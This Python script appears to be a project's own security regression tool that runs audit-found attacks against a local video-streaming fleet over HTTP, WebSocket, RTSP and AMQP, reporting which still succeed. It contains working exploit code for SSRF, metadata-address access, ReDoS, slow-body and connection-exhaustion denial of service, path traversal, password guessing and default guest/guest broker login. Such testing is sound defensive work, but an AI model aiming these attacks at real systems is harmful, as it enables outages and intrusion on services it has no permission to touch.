#!/usr/bin/env python3
"""Tries what the audit of 2026-11-22 found on a running fleet, by HTTP, WebSocket, RTSP and AMQP alone, and says what held.

Usage: deploy/attacks.py --ingest URL [--rtsp PORT] [--frames URL] [--storage URL] [--broker PORT] [--users]
                         [--only H1,M3]

  --users   the fleet has a password (AERIE_USERNAME, RTSP_READ_USERNAME): what is then open all the same

The fleet must be one that may break: some attacks stop its sources, add some, or hold its threads for seconds. Its addresses must
be of this machine. It needs a stream 'drone' that is published all the while, and MAX_STREAMS=8; docs/security.md has what came of it.
Exit status: 1 where an attack held. Python 3 and nothing else; the broker's password is tried where the module pika is installed.
"""

import argparse
import base64
import contextlib
import json
import os
import socket
import struct
import sys
import threading
import time
from urllib.parse import urlsplit

PATIENCE_SECONDS = 20
SLOW_SECONDS = 1.5
STREAM = "drone"


class NotTried(Exception):
    """Why an attack could not be tried."""


# ---- what speaks the protocols


def connect(address, timeout=PATIENCE_SECONDS):
    return socket.create_connection(address, timeout)


def receive_all(sock):
    got = b""
    with contextlib.suppress(OSError):
        while chunk := sock.recv(65536):
            got += chunk
    return got


def http_raw(address, request, timeout=PATIENCE_SECONDS):
    """The whole answer to bytes; empty where none came."""
    try:
        with connect(address, timeout) as sock:
            sock.sendall(request)
            return receive_all(sock)
    except OSError:
        return b""


def http(address, method, path, body=None, headers=None, timeout=PATIENCE_SECONDS):
    """Status (0 for none) and body of an answer."""
    fields = {"Host": "localhost:%d" % address[1], "Connection": "close"}
    data = b""
    if body is not None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        fields["Content-Type"] = "application/json"
        fields["Content-Length"] = str(len(data))
    fields.update(headers or {})
    head = "%s %s HTTP/1.1\r\n" % (method, path) + "".join("%s: %s\r\n" % item for item in fields.items()) + "\r\n"
    answer = http_raw(address, head.encode("latin-1") + data, timeout)
    head, _, content = answer.partition(b"\r\n\r\n")
    words = head.split(b" ", 2)
    return (int(words[1]) if len(words) > 1 and words[1].isdigit() else 0), head.decode("latin-1"), content


def websocket(address, path, headers=None, timeout=PATIENCE_SECONDS):
    """A socket after the handshake, and the status of its answer."""
    sock = connect(address, timeout)
    lines = {
        "Host": "localhost:%d" % address[1],
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
    }
    lines.update(headers or {})
    sock.sendall(("GET %s HTTP/1.1\r\n" % path + "".join("%s: %s\r\n" % i for i in lines.items()) + "\r\n").encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        chunk = sock.recv(4096)
        if not chunk:
            break
        answer += chunk
    words = answer.split(b" ", 2)
    return sock, int(words[1]) if len(words) > 1 else 0


def frame(payload, opcode=2):
    """A masked WebSocket frame; the mask is zero."""
    length = len(payload)
    if length < 126:
        head = struct.pack("!BB", 0x80 | opcode, 0x80 | length)
    elif length < 65536:
        head = struct.pack("!BBH", 0x80 | opcode, 0x80 | 126, length)
    else:
        head = struct.pack("!BBQ", 0x80 | opcode, 0x80 | 127, length)
    return head + b"\0\0\0\0" + payload


def rtsp(sock, method, url, headers=None, body=b"", cseq=1):
    """Status and head of the answer to an RTSP request."""
    fields = {"CSeq": str(cseq)}
    if body:
        fields["Content-Type"] = "application/sdp"
        fields["Content-Length"] = str(len(body))
    fields.update(headers or {})
    head = "%s %s RTSP/1.0\r\n" % (method, url) + "".join("%s: %s\r\n" % item for item in fields.items()) + "\r\n"
    sock.sendall(head.encode("latin-1") + body)
    answer = b""
    while b"\r\n\r\n" not in answer:
        chunk = sock.recv(65536)
        if not chunk:
            return 0, ""
        answer += chunk
    text = answer.decode("latin-1")
    return int(text.split(" ", 2)[1]), text


class Bits:
    """Writes fields of H.264 parameter sets."""

    def __init__(self):
        self.text = ""

    def u(self, count, value):
        self.text += format(value, "0%db" % count)

    def ue(self, value):
        digits = format(value + 1, "b")
        self.text += "0" * (len(digits) - 1) + digits

    def unit(self, header):
        bits = self.text + "1"
        bits += "0" * (-len(bits) % 8)
        raw = bytes(int(bits[i : i + 8], 2) for i in range(0, len(bits), 8))
        escaped = b""
        for byte in raw:
            if escaped[-2:] == b"\0\0" and byte <= 3:
                escaped += b"\3"
            escaped += bytes([byte])
        return b"\0\0\0\1" + bytes([header]) + escaped


def video(side_pixels, shown_pixels, idr=True):
    """Parameter sets of a square frame of which a corner is shown, and the beginning of a frame."""
    sps = Bits()
    for count, value in ((8, 66), (8, 0), (8, 51)):
        sps.u(count, value)
    for value in (0, 0, 2, 1):  # id, frame number, order type, references
        sps.ue(value)
    sps.u(1, 0)
    sps.ue(side_pixels // 16 - 1)  # macroblocks a row, less one
    sps.ue(side_pixels // 16 - 1)
    sps.u(2, 3)  # frames alone, direct 8x8
    sps.u(1, 1)  # cropped, by units of two pixels
    for value in (0, (side_pixels - shown_pixels) // 2, 0, (side_pixels - shown_pixels) // 2):
        sps.ue(value)
    sps.u(1, 0)
    pps = Bits()
    pps.ue(0)
    pps.ue(0)
    pps.u(2, 0)
    for value in (0, 0, 0):
        pps.ue(value)
    pps.u(3, 0)
    for _ in range(3):
        pps.ue(0)
    pps.u(3, 0)
    slices = Bits()
    for value in (0, 7 if idr else 5, 0):
        slices.ue(value)
    slices.u(4, 0)
    if idr:
        slices.ue(0)
    slices.u(64, 0x0123456789ABCDEF)
    return sps.unit(0x67) + pps.unit(0x68) + slices.unit(0x65 if idr else 0x41)


# ---- the attacks; each returns whether it held, and what was seen


class Fleet:
    def __init__(self, options):
        def address(url):
            parts = urlsplit(url)
            return (parts.hostname, parts.port)

        self.ingest = address(options.ingest)
        self.host = self.ingest[0]
        self.rtsp_port = options.rtsp
        self.frames = address(options.frames) if options.frames else None
        self.storage = address(options.storage) if options.storage else None
        self.broker = options.broker

    def url(self, stream):
        return "rtsp://%s:%d/%s" % (self.host, self.rtsp_port, stream)

    def rtsp(self, timeout=PATIENCE_SECONDS):
        return connect((self.host, self.rtsp_port), timeout)

    def stream(self, name):
        status, _, body = http(self.ingest, "GET", "/api/streams/" + name)
        return json.loads(body) if status == 200 else None

    def needed(self, which):
        found = getattr(self, which)
        if not found:
            raise NotTried("no --" + which.replace("_", "-"))
        return found


def heard(listener, seconds=3):
    listener.settimeout(seconds)
    try:
        sock, _ = listener.accept()
        sock.settimeout(1)
        with sock:
            return sock.recv(4096) or b"a connection"
    except OSError:
        return b""


def h1_proxy(fleet):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        request = "GET /aaaaaaa@127.0.0.1:%d/../archive/x HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n" % port
        answer = {}
        asking = threading.Thread(target=lambda: answer.update(got=http_raw(fleet.ingest, request.encode(), 5)))
        asking.start()
        got = heard(listener)
        asking.join()
    return bool(got), "a foreign server was asked" if got else "answered " + status_line(answer.get("got", b""))


def status_line(answer):
    return answer.split(b"\r\n", 1)[0].decode("latin-1") or "nothing"


def h2_exponent(fleet):
    begin = time.monotonic()
    status, _, _ = http(fleet.needed("storage"), "GET", "/api/streams/%s/snapshot?at=1e5000000" % STREAM, timeout=60)
    took = time.monotonic() - begin
    return took > SLOW_SECONDS, "answered %d after %.1f s" % (status, took)


def h3_foreign_page(fleet):
    posted, _, _ = http(fleet.ingest, "POST", "/stop", headers={"Origin": "http://evil.example", "Content-Length": "0"})
    named, _, _ = http(fleet.ingest, "GET", "/api/streams", headers={"Host": "evil.example"})
    return posted < 300 or named < 300, "a page's POST answered %d, a foreign Host %d" % (posted, named)


def h5_regular_expression(fleet):
    body = (
        b"v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=x\r\nt=0 0\r\nm=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
        b"a=fmtp:96 sprop-parameter-sets=" + b"A" * 60000 + b"\rx\r\n"
    )
    begin = time.monotonic()
    with fleet.rtsp(60) as sock:
        status, _ = rtsp(sock, "ANNOUNCE", fleet.url("regex"), body=body)
    took = time.monotonic() - begin
    return took > SLOW_SECONDS, "60 KB of parameter sets were answered %d after %.1f s" % (status, took)


def h6_nul(fleet):
    name = "nul-source"
    status, _, _ = http(fleet.ingest, "PUT", "/api/streams/" + name, {"type": "file", "path": "a\0b"})
    time.sleep(3)
    alive, _, _ = http(fleet.ingest, "GET", "/q/health/live")
    http(fleet.ingest, "DELETE", "/api/streams/" + name)
    return alive != 200, "the source answered %d, liveness then %d" % (status, alive)


def leb(value):
    """COCO's compressed runs: five bits a character."""
    text = ""
    while True:
        piece = value & 0x1F
        value >>= 5
        more = not (value == 0 and not piece & 0x10 or value == -1 and piece & 0x10)
        text += chr((piece | (0x20 if more else 0)) + 48)
        if not more:
            return text


def h7_mask(fleet):
    frames = fleet.needed("frames")
    path = "/api/streams/%s/prompts" % STREAM
    rows, columns = fleet_size(fleet)
    total = rows * columns
    runs = [0, 2**31 - 1] + [2**58] * 63
    runs.append((total - sum(runs)) % 2**64)
    if runs[-1] >= 2**63:
        runs[-1] -= 2**64
    shown = [runs[i] - (runs[i - 2] if i > 2 else 0) for i in range(len(runs))]
    counts = "".join(leb(one) for one in shown)
    begin = time.monotonic()
    status, _, body = http(frames, "POST", path, {"mask": {"size": [rows, columns], "counts": counts}}, timeout=60)
    took = time.monotonic() - begin
    if status == 404:
        raise NotTried("frame-processor does not work on " + STREAM)
    refused = status in (400, 422) and b"mask" in body
    return not refused or took > SLOW_SECONDS, "answered %d after %.1f s: %s" % (status, took, body[:90].decode())


def fleet_size(fleet):
    status, _, body = http(fleet.needed("frames"), "GET", "/api/streams/%s/objects" % STREAM)
    if status != 200:
        raise NotTried("frame-processor does not work on " + STREAM)
    result = json.loads(body)
    return int(result.get("height", 360)), int(result.get("width", 640))


def h8_huge(fleet):
    sock, status = websocket(fleet.ingest, "/ws/video/huge")
    with sock:
        if status != 101:
            return False, "the socket answered %d" % status
        sock.sendall(frame(b'{"type":"video_config","framing":"access_units"}', 1))
        for _ in range(3):
            with contextlib.suppress(OSError):
                sock.sendall(frame(video(16000, 64)))
            time.sleep(0.3)
        relayed = 0
        with fleet.rtsp() as reader:
            relayed, _ = rtsp(reader, "DESCRIBE", fleet.url("huge"), {"Accept": "application/sdp"})
    return relayed == 200, "readers of the stream of 16,000 x 16,000 pixels were answered %d" % relayed


def h9_slow_bodies(fleet):
    slow = []
    try:
        for _ in range(230):
            with contextlib.suppress(OSError):
                sock = connect(fleet.ingest, 2)
                sock.sendall(
                    b"PUT /api/streams/slow HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 50000\r\n\r\n" + b" " * 20000
                )
                slow.append(sock)
        time.sleep(1)
        begin = time.monotonic()
        alive, _, _ = http(fleet.ingest, "GET", "/q/health/live", timeout=8)
        took = time.monotonic() - begin
    finally:
        for sock in slow:
            sock.close()
    return alive != 200, "%d slow bodies, health answered %d after %.1f s" % (len(slow), alive, took)


def h16_guesses(fleet):
    basic = base64.b64encode(b"x:wrong").decode()
    statuses = [http(fleet.ingest, "GET", "/api/streams", headers={"Authorization": "Basic " + basic})[0] for _ in range(30)]
    rtsp_statuses, offered = [], ""
    for _ in range(30):
        with fleet.rtsp() as sock:
            status, head = rtsp(sock, "DESCRIBE", fleet.url(STREAM), {"Authorization": "Basic " + basic})
            rtsp_statuses.append(status)
            offered += head
    unlimited = set(statuses) == {401} or set(rtsp_statuses) == {401}
    in_the_clear = "Basic realm" in offered
    return unlimited or in_the_clear, "30 guesses: HTTP %s, RTSP %s; RTSP %s Basic" % (
        sorted(set(statuses)),
        sorted(set(rtsp_statuses)),
        "offers" if in_the_clear else "does not offer",
    )


def m1_text_file(fleet):
    name = "text-file"
    path = "/tmp/aerie-attack.txt"
    with open(path, "w", encoding="ascii") as file:
        file.write("a secret of this machine\n" * 20)
    status, _, body = http(fleet.ingest, "PUT", "/api/streams/" + name, {"type": "file", "path": path})
    played = False
    for _ in range(20):
        time.sleep(0.5)
        with fleet.rtsp() as sock:
            played = rtsp(sock, "DESCRIBE", fleet.url(name), {"Accept": "application/sdp"})[0] == 200
        if played or status >= 400:
            break
    http(fleet.ingest, "DELETE", "/api/streams/" + name)
    os.remove(path)
    return played, "the source answered %d, %s" % (status, "and is played" if played else "and is not played")


def m2_inner_address(fleet):
    name = "metadata"
    status, _, _ = http(fleet.ingest, "PUT", "/api/streams/" + name, {"type": "rtsp", "urls": ["rtsp://169.254.169.254/x"]})
    time.sleep(2)
    told = fleet.stream(name) or {}
    why = str(told.get("last_error", told))
    http(fleet.ingest, "DELETE", "/api/streams/" + name)
    refused = status >= 400 or "SOURCE_HOSTS" in why or "not allowed" in why
    return not refused, "the source answered %d: %s" % (status, why[:100])


def m3_udp_ports(fleet):
    before = udp_sockets()
    sdp = (
        b"v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=x\r\nt=0 0\r\nm=video 0 RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
        b"a=control:trackID=0\r\n"
    )
    with fleet.rtsp() as sock:
        rtsp(sock, "ANNOUNCE", fleet.url("ports"), body=sdp)
        session = {}
        for number in range(40):
            status, head = rtsp(
                sock,
                "SETUP",
                fleet.url("ports") + "/trackID=0",
                {"Transport": "RTP/AVP;unicast;mode=record;client_port=%d-%d" % (40000 + 2 * number, 40001 + 2 * number), **session},
                cseq=number + 2,
            )
            for line in head.split("\r\n"):
                if line.lower().startswith("session:"):
                    session = {"Session": line.split(":", 1)[1].split(";")[0].strip()}
        held = udp_sockets() - before
    return held > 10, "40 SETUPs on one connection hold %d UDP ports" % held


def udp_sockets():
    count = 0
    for table in ("/proc/net/udp", "/proc/net/udp6"):
        with contextlib.suppress(OSError), open(table, encoding="ascii") as file:
            count += sum(1 for _ in file) - 1
    return count


def m4_connections(fleet):
    open_ones, answered = [], 0
    try:
        for _ in range(400):
            with contextlib.suppress(OSError):
                open_ones.append(fleet.rtsp(2))
        for sock in open_ones:
            with contextlib.suppress(OSError):
                answered += rtsp(sock, "OPTIONS", fleet.url(STREAM))[0] == 200
    finally:
        for sock in open_ones:
            sock.close()
    return answered >= 400, "of 400 RTSP connections of one address %d were answered" % answered


def m10_replay(fleet):
    sock, status = websocket(fleet.ingest, "/ws/replay/forged", {"X-Forwarded-For": "203.0.113.7"})
    sock.close()
    return status == 101, "a replay that came by a proxy was answered %d" % status


def m12_squatters(fleet):
    whole = frame(b'{"type":"video_config","framing":"access_units"}', 1)
    open_ones = []
    try:
        for number in range(8):
            sock, status = websocket(fleet.ingest, "/ws/video/squatter-%d" % number)
            open_ones.append(sock)
            with contextlib.suppress(OSError):
                sock.sendall(whole + frame(video(64, 64, idr=False)))
        time.sleep(7)
        sock, status = websocket(fleet.ingest, "/ws/video/honest")
        open_ones.append(sock)
        for _ in range(4):
            with contextlib.suppress(OSError):
                sock.sendall(whole + frame(video(64, 64)))
            time.sleep(0.3)
        told = fleet.stream("honest")
    finally:
        for sock in open_ones:
            sock.close()
    taken = told is not None and told.get("state") == "live"
    return not taken, "after 7 s of 8 publishers without an IDR frame the ninth, with them, is %s" % (
        "taken" if taken else "refused"
    )


def m13_guest(fleet):
    try:
        import pika
    except ImportError as missing:
        raise NotTried("python3-pika is missing") from missing
    try:
        parameters = pika.ConnectionParameters(
            "127.0.0.1", fleet.needed("broker"), credentials=pika.PlainCredentials("guest", "guest"), blocked_connection_timeout=5
        )
        pika.BlockingConnection(parameters).close()
        return True, "guest with the password guest is let in"
    except pika.exceptions.AMQPError as refused:
        return False, type(refused).__name__


def l1_encoded(fleet):
    statuses = {}
    for path in ("/q/health%2f..%2f..%2findex.html", "/q/health/../../index.html", "/q/health/%2e%2e/%2e%2e/index.html", "/q/healthx"):
        statuses[path] = http(fleet.ingest, "GET", path)[0]
    held = any(status == 200 for status in statuses.values())
    return held, "without a password: " + ", ".join(map(str, statuses.values()))


def l2_headers(fleet):
    _, head, _ = http(fleet.ingest, "GET", "/")
    missing = [name for name in ("content-security-policy", "x-content-type-options", "x-frame-options") if name not in head.lower()]
    return bool(missing), "missing: " + (", ".join(missing) or "none")


ATTACKS = {
    "H1": h1_proxy,
    "H2": h2_exponent,
    "H3": h3_foreign_page,
    "H5": h5_regular_expression,
    "H6": h6_nul,
    "H7": h7_mask,
    "H8": h8_huge,
    "H9": h9_slow_bodies,
    "M1": m1_text_file,
    "M2": m2_inner_address,
    "M3": m3_udp_ports,
    "M4": m4_connections,
    "M10": m10_replay,
    "M12": m12_squatters,
    "M13": m13_guest,
    "L2": l2_headers,
}
WITH_USERS = {"H16": h16_guesses, "L1": l1_encoded}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--ingest", required=True)
    parser.add_argument("--rtsp", type=int, default=8554)
    parser.add_argument("--frames")
    parser.add_argument("--storage")
    parser.add_argument("--broker", type=int)
    parser.add_argument("--users", action="store_true")
    parser.add_argument("--only")
    options = parser.parse_args()
    fleet = Fleet(options)
    attacks = WITH_USERS if options.users else ATTACKS
    if options.only:
        attacks = {name: attack for name, attack in {**ATTACKS, **WITH_USERS}.items() if name in options.only.split(",")}
    held = 0
    for name, attack in attacks.items():
        try:
            holds, seen = attack(fleet)
            held += holds
            print("%-4s %-8s %s" % (name, "HELD" if holds else "refused", seen), flush=True)
        except NotTried as why:
            print("%-4s %-8s %s" % (name, "-", why), flush=True)
        except OSError as fault:
            print("%-4s %-8s %s" % (name, "?", fault), flush=True)
    sys.exit(1 if held else 0)


if __name__ == "__main__":
    main()
